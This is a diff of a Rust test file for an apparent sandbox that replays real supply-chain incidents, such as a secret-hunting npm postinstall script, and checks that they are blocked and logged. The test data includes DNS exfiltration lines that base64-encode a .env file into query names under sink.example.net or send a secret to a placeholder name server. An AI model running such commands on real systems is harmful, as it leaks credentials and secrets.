@@ -1,5 +1,5 @@
-//! What has happened to people, as small scripts that have the same effect: free, each does its harm; in the box nothing
-//! of it comes to pass, and the record names the act, its object, the rule and the action it belongs to.
+//! What has happened to people, as small scripts that have the same effect: free, each does its harm; in the box
+//! nothing of it comes to pass, and the record names the act, its object, the rule and the action it belongs to.
 
 mod common;
 
@@ -25,7 +25,7 @@ fn denials(outcome: &Outcome, op: &str, object: &str) -> usize {
 /// spoils the shell's start (GHSA-cxm3-wv7p-598c).
 #[test]
 fn a_package_that_hunts_for_secrets_as_it_is_installed_finds_none() {
-    /// As `npm install` runs a package's script: from its directory, by a shell, with the package's programs on the path.
+    /// As `npm install` runs a package's script: from its directory, by a shell, with the project's programs on PATH.
     const NPM: &str =
         "#!/bin/sh\ncd node_modules/nx && PATH=\"$PWD/../.bin:$PATH\" sh -c ./postinstall; echo installed\n";
     const POSTINSTALL: &str = "#!/bin/sh
@@ -120,7 +120,8 @@ fn a_secret_in_the_labels_of_names_reaches_no_name_server() {
         wire = b\"\".join(bytes([len(part)]) + part.encode() for part in \"s3cret.five.sink.example.net.\".split(\".\"))
         sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         sock.settimeout(1)
-        sock.sendto(struct.pack(\"!6H\", 7, 0x100, 1, 0, 0, 0) + wire + struct.pack(\"!2H\", 16, 1), (\"203.0.113.53\", 53))
+        query = struct.pack(\"!6H\", 7, 0x100, 1, 0, 0, 0) + wire + struct.pack(\"!2H\", 16, 1)
+        sock.sendto(query, (\"203.0.113.53\", 53))
         sock.recv(512)'";
     const LINES: [(&str, &str); 6] = [
         ("getent", "getent ahostsv4 $(base64 -w0 .env | tr -d =).one.sink.example.net"),
